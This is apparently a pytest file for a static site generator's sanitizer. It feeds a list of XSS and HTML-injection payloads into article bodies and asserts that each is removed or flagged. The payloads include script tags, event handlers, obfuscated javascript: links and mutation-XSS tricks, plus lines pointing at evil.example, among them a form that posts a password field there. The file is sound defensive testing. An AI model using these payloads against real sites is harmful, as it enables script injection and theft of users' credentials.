"""HTML and addresses in bodies; texts that cost much."""

import pytest
from harmless import build, told
from support import Site, article, picture

from benchmarks.costly import COSTLY, SIZE

BODIES = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script without end": "<script>alert(1)",
    "event handler": "<p onclick=alert(1)>x</p>",
    "event handler after a slash": "<img/src=x.jpg/onerror=alert(1) alt=x>",
    "event handler in an attribute list": 'x {: onclick="alert(1)" }',
    "style in an attribute list": 'x {: style="position:fixed" }',
    "address in an attribute list": '*x*{: href="javascript:alert(1)" }',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link with entities": "[x](&#106;avascript&colon;alert(1))",
    "javascript link with a tab": "[x](<java\tscript:alert(1)>)",
    "javascript link with a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "javascript link with a line break": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript in a reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript as autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript link": "[x](vbscript:msgbox)",
    "file link": "[x](file:///etc/passwd)",
    "object": "<object data='x.swf'></object>",
    "embed": "<embed src='x.swf'>",
    "base": "<base href='//evil.example/'>",
    "refresh": "<meta http-equiv='refresh' content='0;url=//evil.example'>",
    "stylesheet": "<link rel='stylesheet' href='//evil.example/x.css'>",
    "style": "<style>body{display:none}</style>",
    "style attribute": "<p style='background:url(//evil.example)'>x</p>",
    "form": "<form action='//evil.example'><input name=password><button>x</button></form>",
    "frame source": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg in math": "<math><mtext><svg><style><img src=x onerror=alert(1)></style></svg></mtext></math>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "plaintext": "<plaintext>x",
    "textarea": "<textarea></textarea><script>alert(1)</script>",
    "title": "<title></title><script>alert(1)</script>",
    "open comment": "<!-- x",
    "strange comment": "<!--> <script>alert(1)</script> -->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?>",
    "doctype": "<!DOCTYPE html><html><body onload=alert(1)>",
    "end of the article": "</article></main></body></html>",
    "names of the page": "<a id='site-nav'>x</a><img name='body' alt='x' src='x.jpg'>",
    "old frames": "<frameset><frame src='//evil.example'></frameset>",
    "poster": "<video poster='javascript:alert(1)'></video>",
    "sources of a picture": "<img srcset='javascript:alert(1) 2x' src='x.jpg' alt='x'>",
    "ping": "<a href='https://x.example/' ping='//evil.example'>x</a>",
    "target": "<a href='https://x.example/' target='_top'>x</a>",
    "own mark": "\0000\0 \x020\x03 wzxhzdk:0 klzzwxh:0001",
    "page mark in code": "    <!-- page -->\n\n`<!-- page -->`",
    "template language": "{{ site.title }} {% for x in range(10**9) %}{% endfor %}",
    "deep emphasis": "*" * 500 + "x" + "*" * 500,
    "unclosed everything": '[ ( < ` * _ { & ![ [^ [x]: *[ <a href="',
    "bidi controls": "abc \u202egpj.exe\u202c \u2066x\u2069",
}
# What is removed from them, by line and column, and said. What else is said follows below.
REMOVED: dict[str, list[str]] = {
    'script': ['9:1 <script>'],
    'script in capitals': ['9:1 <script>'],
    'script in a script': ['9:5 <script>'],
    'event handler': ['9:4 onclick='],
    'address in an attribute list': ['9:7 href='],
    'javascript link': ['9:5 javascript:'],
    'javascript link in capitals': ['9:5 javascript:'],
    'javascript link with entities': ['6:1 javascript:'],
    'javascript link with a control character': ['9:14 javascript:'],
    'javascript link with a line break': ['6:1 javascript:'],
    'javascript in a reference': ['11:6 javascript:'],
    'data link': ['9:5 data:'],
    'data picture': ['9:6 data:'],
    'vbscript link': ['9:5 vbscript:'],
    'file link': ['9:5 file:'],
    'object': ['9:1 <object>'],
    'embed': ['9:1 <embed>'],
    'base': ['9:1 <base>'],
    'refresh': ['9:1 <meta>'],
    'stylesheet': ['9:1 <link>'],
    'style': ['9:1 <style>'],
    'style attribute': ['9:4 style='],
    'form': ['9:1 <form>', '9:31 <input>', '9:52 <button>'],
    'svg': ['9:1 <svg>'],
    'svg in math': ['9:1 <math>'],
    'template': ['9:1 <template>'],
    'textarea': ['9:1 <textarea>', '9:22 <script>'],
    'title': ['9:1 <title>', '9:16 <script>'],
    'strange comment': ['9:7 <script>'],
    'CDATA': ['9:10 <script>'],
    'doctype': ['9:16 <html>', '9:22 <body>'],
    'names of the page': ['9:28 name='],
    'old frames': ['9:1 <frameset>', '9:11 <frame>'],
    'poster': ['9:16 javascript:'],
    'sources of a picture': ['9:6 srcset='],
    'ping': ['9:30 ping='],
    'target': ['9:30 target='],
}  # fmt: skip
# What else is said of them; of the others nothing: they are published without harm.
TOLD = {
    "open comment": ["9:1 html-unclosed"],
    "javascript link with a tab": ["9:6 link-broken"],
    "frame source": ["6:1 iframe-host"],
    "own mark": [f"9:{column} control-character" for column in (1, 3, 5, 7)],
    "deep emphasis": ["6:1 markdown-depth"],
    "template language": ["9:1 markup-left", "9:18 markup-left"],
    "script without end": ["9:1 html-unclosed"],
    "plaintext": ["9:1 html-unclosed"],
    "bidi controls": [f"9:{column} control-character" for column in (5, 13, 15, 17)],
}


@pytest.mark.parametrize("name", BODIES)
def test_harm_in_a_body(name: str, site: Site) -> None:
    site.write("articles/x.jpg", picture(kind="JPEG"))
    site.write("articles/a.md", article(body=f"Trước.\n\n{BODIES[name]}\n\nSau."))
    report = build(site)
    removed = [d for d in report.found if d.code == "html-removed"]
    assert [f"{d.place.line}:{d.place.column} {d.values['what']}" for d in removed] == REMOVED.get(
        name, []
    )
    others = [line for line in told(report) if not line.endswith(" html-removed")]
    assert others == [f"articles/a.md:{line}" for line in TOLD.get(name, [])]
    assert bool(report.counts) == (report.errors == 0)
    if report.counts:
        page = site.read("tin-tuc/bai-mot/index.html")
        assert "Trước." in page
        assert "evil.example" not in page or "&lt;" in page


@pytest.mark.parametrize("name", COSTLY)
def test_a_costly_body(name: str, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kheo.stages.parsing.SOURCE_SECONDS", 2)
    site.write("articles/a.md", article(body=COSTLY[name](SIZE)))
    site.write("articles/b.md", article("Bài hai"))
    report = build(site, keep_going=True)
    assert told(report) in ([], ["articles/a.md:0:0 too-slow"], ["articles/a.md:6:1 markdown-depth"],
                            ["articles/a.md:6:1 body-too-long"], ["articles/a.md:7:1 html-unclosed"], ["articles/a.md:6:1 too-large"]), told(report)  # fmt: skip
    assert "Bài hai" in site.read("tin-tuc/bai-hai/index.html")
